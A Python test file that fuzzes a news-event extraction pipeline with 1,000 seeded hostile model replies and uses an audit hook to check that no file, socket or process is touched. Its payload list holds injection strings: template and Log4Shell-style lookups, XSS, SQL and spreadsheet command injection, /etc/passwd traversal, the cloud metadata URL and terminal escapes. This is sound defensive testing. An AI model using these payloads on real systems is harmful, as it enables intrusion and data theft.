"""Promises S1 and S2: whatever a model returns, the output validates, quotes only this article, and touches nothing.

The article controls the model completely in this test: 1,000 raw replies from a seeded generator, from malformed JSON
to events full of payloads, go through the one doorway (``Reply.model_validate_json``) and, where they fit the reply
type, through ``ground``. An audit hook watches every file, socket and process.
"""

from __future__ import annotations

import json
import random
import sys
from datetime import UTC, date, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

import jsonschema_rs
import pytest
from pydantic import ValidationError

import extractor
from extractor.events.ground import Grounded, ground, reground
from extractor.events.reply import Reply
from extractor.events.summary import ArticleInfo, Extraction, Provenance, Usage
from extractor.events.vocabulary import (
    EventType,
    Involvement,
    Measure,
    Outcome,
    Role,
    Sector,
    Stance,
    Standing,
    Status,
    Who,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from extractor.articles.article import Article

REPLIES = 1_000
SEED = 20_210_414

LINES = (
    "Skip to main content {{ config }}",
    "DAMASCUS, April 12 (Wire) - Two car bombs killed 17 people, wounded 71 in Homs on Sunday, {% raw %} police say.",
    "<script>alert(1)</script> The army denied that its jets had bombed the town of Sarmin.",
    "'; DROP TABLE events; -- said spokesman Ali \u202eHassan, \u001b[2J who fled to Turkey in September 2019.",
    '=HYPERLINK("http://example.org") More than 300\u00a0000 people fled; \u201cstop\u201d, he said on Monday.',
    "Follow us on every network \U0001f468\u200d\U0001f469\u200d\U0001f467 [/foo] \x00 end.",
)

PAYLOADS = (
    *("{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "${jndi:ldap://example.org/a}", "{0.__class__}", "%s%n%x", "`id`"),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "&lt;b&gt;", "]]>", "<!--"),
    *("'; DROP TABLE events; --", '" OR 1=1', '=HYPERLINK("http://example.org")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    *("+cmd", "-2+3", "\t=1", "\x1b[2J", "\x1b]8;;http://example.org\x07x", "\x9b31m", "[/foo]", "[bold red]", "\x00"),
    *(
        "a\x00b",
        "\u202eevil",
        "\u2066x",
        "\ufeff",
        "\u00ad" * 20,
        "\u200b",
        "",
        " ",
        "\r\n",
        "\u2028",
        "../../etc/passwd",
    ),
    *("\\\\host\\share", "file:///etc/passwd", "http://169.254.169.254/", "9" * 80, "NaN", "Infinity", "1e999 people"),
    *("-5 people", "0", "no one", "between 50 and 10 people", "10\u00b2 people", "\uff19\uff15\uff10 people", "\u00bd"),
    *("31 February 2019", "99/99/9999", "in 99999", "0000-00-00", "1 January 0001", "yesterday" * 8, "next year" * 8),
    *("\U0001f468\u200d\U0001f469\u200d\U0001f467", "e" + "\u0301" * 60, "\u0130stanbul", "\u1e9e" * 30, "\ufdfa" * 10),
    *("A" * 80, "the the the the", "\u06f1\u06f7 people", "a" * 79 + "\u0301", "1,000,000,000,000 people", "XX", "ZZZ"),
)
HONEST = (
    *(
        "17 people",
        "71",
        "Two",
        "More than 300 000 people",
        "on Sunday",
        "in September 2019",
        "Monday",
        "Homs",
        "Sarmin",
    ),
    *("Ali Hassan", "police", "army", "Turkey", "Syria", "car bombs", "its jets", "spokesman Ali", "April 12", "jets"),
)


def text(rng: random.Random, longest: int) -> str | None:
    """Return a string of at most ``longest`` characters, hostile or honest or a mixture, or None."""
    kind = rng.random()
    if kind < 0.08:
        return None
    if kind < 0.45:
        return rng.choice(HONEST)
    if kind < 0.85:
        return rng.choice(PAYLOADS)[:longest]
    mixed = " ".join(rng.choice(PAYLOADS + HONEST) for _ in range(4)) + chr(rng.choice((0, 7, 27, 127, 0x85, 0x2029)))
    return mixed[:longest]


def words(rng: random.Random, longest: int) -> str:
    """Return a string that is never None."""
    return text(rng, longest) or ""


def event(rng: random.Random) -> dict[str, Any]:
    """Return an event that fits the reply type, with hostile content."""
    numbers = [rng.choice((1, 2, 2, 3, 4, 5, 6, 7, 999, 9999)) for _ in range(rng.randint(1, 6))]
    return {
        "sentences": numbers,
        "type": rng.choice(list(EventType)),
        "status": rng.choice(list(Status)),
        "standing": rng.choice(list(Standing)),
        "when": text(rng, 80),
        "place": text(rng, 80),
        "country": text(rng, 80),
        "actors": [
            {
                "name": words(rng, 120),
                "role": rng.choice(list(Role)),
                "sector": rng.choice(list(Sector)),
                "involvement": rng.choice(list(Involvement)),
            }
            for _ in range(rng.randint(0, 8))
        ],
        "counts": [
            {
                "measure": rng.choice(list(Measure)),
                "who": rng.choice(list(Who)),
                "words": words(rng, 80),
                "source": text(rng, 120),
            }
            for _ in range(rng.randint(0, 10))
        ],
        "speakers": [{"name": text(rng, 120), "stance": rng.choice(list(Stance))} for _ in range(rng.randint(0, 4))],
        "summary": words(rng, 320),
    }


def well_formed(rng: random.Random) -> dict[str, Any]:
    """Return a reply that fits its type."""
    events = [event(rng) for _ in range(rng.choice((0, 1, 1, 1, 2)))]
    if events and rng.random() < 0.2:
        events.append(events[0])
    return {"published": text(rng, 80), "events": events}


def broken(rng: random.Random) -> str:
    """Return a raw reply that does not fit: wrong types, foreign values, bad JSON, absurd sizes."""
    reply = well_formed(rng)
    reply["events"] = reply["events"] or [event(rng)]
    first = reply["events"][0]
    field = rng.choice(list(first))
    wrong: tuple[Any, ...] = (
        None,
        7,
        -1,
        10**400,
        1.5,
        True,
        "x" * 400,
        [],
        {},
        [[]],
        {"a": 1},
        ["999"],
        [0],
        [10_000],
        "\ud800",
    )
    kind = rng.randrange(14)
    if kind < 5:
        first[field] = rng.choice([w for w in wrong if not (w is None and field in {"when", "place", "country"})])
        if field in {"actors", "counts", "speakers"} and first[field] == []:
            first[field] = {}
        if field in {"when", "place", "country", "summary"} and first[field] == "\ud800":
            first[field] = 1
        return json.dumps(reply)
    raw = json.dumps(reply)
    return {
        5: raw[: rng.randrange(len(raw))],
        6: raw.replace('"actual"', "NaN").replace("[", "[NaN,", 1),
        7: raw.replace('"events"', '"event"'),
        8: raw[:-1] + ', "extra": 1}',
        9: '{"published": "\\ud800", "events": []}',
        10: "Sure! Here is the JSON you asked for:\n" + raw,
        11: "",
        12: json.dumps([reply]),
        13: raw.replace("{", "\ufeff{", 1),
    }[kind]


def enormous() -> Iterator[str]:
    """Yield the few replies that are hostile by size."""
    for opening, closing in (("[", "]"), ('{"events":', "}"), ('{"published":null,"events":[', "]}"), ("[", "")):
        yield opening * 100_000 + closing * 100_000
    megabytes = "A" * 10_000_000
    yield json.dumps({"published": megabytes, "events": []})
    yield json.dumps({"published": None, "events": [], megabytes: 1})
    yield '{"published": null, "events": [' + "1," * 1_000_000 + "1]}"
    yield '{"published": null, "events": [{"sentences": [' + "9" * 4_000 + "]}]}"


def replies() -> list[str]:
    """Return the 1,000 raw replies, the same in every run."""
    rng = random.Random(SEED)  # noqa: S311  reason: no secret
    raw = list(enormous())
    while len(raw) < REPLIES:
        raw.append(broken(rng) if rng.random() < 0.3 else json.dumps(well_formed(rng)))
    return raw


def extraction_of(article: Article, grounded: Grounded) -> Extraction:
    """Wrap grounded events as the pipeline does."""
    provenance = Provenance(
        prompt="events@v1",
        prompt_sha256="0" * 64,
        reply_type="events.v1",
        model="scripted",
        endpoint="scripted",
        mode="json_schema",
        extractor_version="0",
        time=datetime(2021, 4, 14, tzinfo=UTC),
    )
    info = ArticleInfo(id=article.id, sha256=article.sha256)
    return Extraction(
        article=info,
        published=grounded.published,
        events=grounded.events,
        provenance=provenance,
        usage=Usage(),
        outcome=Outcome.OK,
    )


class Watch:
    """An audit hook (they cannot be taken off again) that counts only while it is switched on."""

    FORBIDDEN = ("socket.", "subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn", "urllib.")
    CHANGES = ("os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.chmod", "os.link", "os.symlink", "shutil.")

    def __init__(self) -> None:
        """Begin switched off."""
        self.on = False
        self.seen: list[str] = []
        readable = (Path(extractor.__file__ or extractor.__path__[0]).parent, *map(Path, sys.path), Path(sys.prefix))
        self.readable = tuple(str(path.resolve()) for path in readable if str(path) not in {"", "."})

    def __call__(self, name: str, args: tuple[Any, ...]) -> None:
        """Note what a reply must never cause; reading this package, its libraries and their tables is allowed."""
        if not self.on:
            return
        if name.startswith(self.FORBIDDEN + self.CHANGES):
            self.seen.append(f"{name} {args}")
        elif name == "open" and not self._harmless(*args[:2]):
            self.seen.append(f"open {args}")

    def _harmless(self, path: Any, mode: Any) -> bool:
        written = isinstance(mode, str) and bool(set(mode) & set("wax+"))
        return not written and isinstance(path, str) and str(Path(path).resolve()).startswith(self.readable)


WATCH = Watch()


@pytest.fixture(name="article")
def _article(make_article: Callable[..., Article]) -> Article:
    return make_article(
        *LINES, published=date(2021, 4, 14), furniture=(1, 6), datelines={2: "DAMASCUS, April 12 (Wire) - "}
    )


@pytest.fixture(name="watch")
def _watch() -> Watch:
    if not getattr(WATCH, "installed", False):
        sys.addaudithook(WATCH)
        WATCH.installed = True  # type: ignore[attr-defined]  # reason: a mark on the test's own object
    return WATCH


def test_a_thousand_hostile_replies(article: Article, watch: Watch) -> None:
    """Each reply is refused cleanly or becomes valid output that quotes only this article and touches nothing."""
    schema = Extraction.model_json_schema(mode="serialization")
    validator = jsonschema_rs.Draft202012Validator(schema)
    refused = events = 0
    for raw in replies():
        watch.on = True
        try:
            reply = Reply.model_validate_json(raw)
        except ValidationError:
            refused += 1
            continue
        finally:
            watch.on = False
        watch.on = True
        grounded = ground(reply, article)
        written = extraction_of(article, grounded).model_dump_json()
        watch.on = False
        assert len(grounded.events) + len(grounded.rejected) == len(reply.events)
        validator.validate(json.loads(written))
        assert Extraction.model_validate_json(written).events == grounded.events
        for found in grounded.events:
            events += 1
            assert found.evidence
            for evidence in found.evidence:
                assert article.text[evidence.start : evidence.end] == evidence.quote
            spans = [check.span for check in found.checks if check.span]
            assert all(0 <= span.start < span.end <= len(article.text) for span in spans)
    assert watch.seen == []
    assert refused > 200
    assert events > 500


def test_values_are_printable(article: Article) -> None:
    """No control character, direction override or lone surrogate of a reply reaches a published value."""
    rng = random.Random(SEED + 1)  # noqa: S311  reason: no secret
    for _ in range(100):
        for found in ground(Reply.model_validate(well_formed(rng)), article).events:
            said = found.model_dump(mode="json", exclude={"evidence": {"__all__": {"quote"}}, "checks": True})
            for character in json.dumps(said, ensure_ascii=False):
                assert ord(character) >= 32
                assert not 0x7F <= ord(character) < 0xA0
                assert character not in "\u202e\u2066\u2028\ufeff"


def test_grounding_is_pure(article: Article) -> None:
    """The same reply and article give the same output, byte for byte, and regrounding to the same day keeps the ids."""
    rng = random.Random(SEED + 2)  # noqa: S311  reason: no secret
    for _ in range(50):
        reply = Reply.model_validate(well_formed(rng))
        first, second = (extraction_of(article, ground(reply, article)) for _ in range(2))
        assert first.model_dump_json() == second.model_dump_json()
        moved = reground(first, date(2019, 6, 3))
        assert [e.id for e in moved.events] == [e.id for e in first.events]


def test_the_watch_bites(watch: Watch, tmp_path: Path) -> None:
    """The audit hook of these tests does see a file being written and a name being resolved."""
    watch.on = True
    (tmp_path / "x").write_text("x")
    watch.on = False
    assert watch.seen
    watch.seen.clear()
